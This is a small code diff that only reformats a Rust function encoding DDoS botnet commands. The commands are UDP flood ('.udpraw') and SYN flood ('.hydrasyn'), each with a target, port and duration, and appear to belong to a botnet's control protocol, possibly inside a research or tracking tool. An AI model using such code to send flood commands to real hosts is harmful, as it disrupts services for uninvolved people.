@@ -32,7 +32,10 @@ pub const PONG: &str = ".pong\n";
 pub fn encode_command(cmd: &AttackCommand) -> Option<String> {
     let line = match cmd.method {
         AttackMethod::UdpFlood => {
-            format!(".udpraw {} {} {}\n", cmd.target, cmd.port, cmd.duration_secs)
+            format!(
+                ".udpraw {} {} {}\n",
+                cmd.target, cmd.port, cmd.duration_secs
+            )
         }
         AttackMethod::SynFlood => format!(
             ".hydrasyn {} {} {}\n",
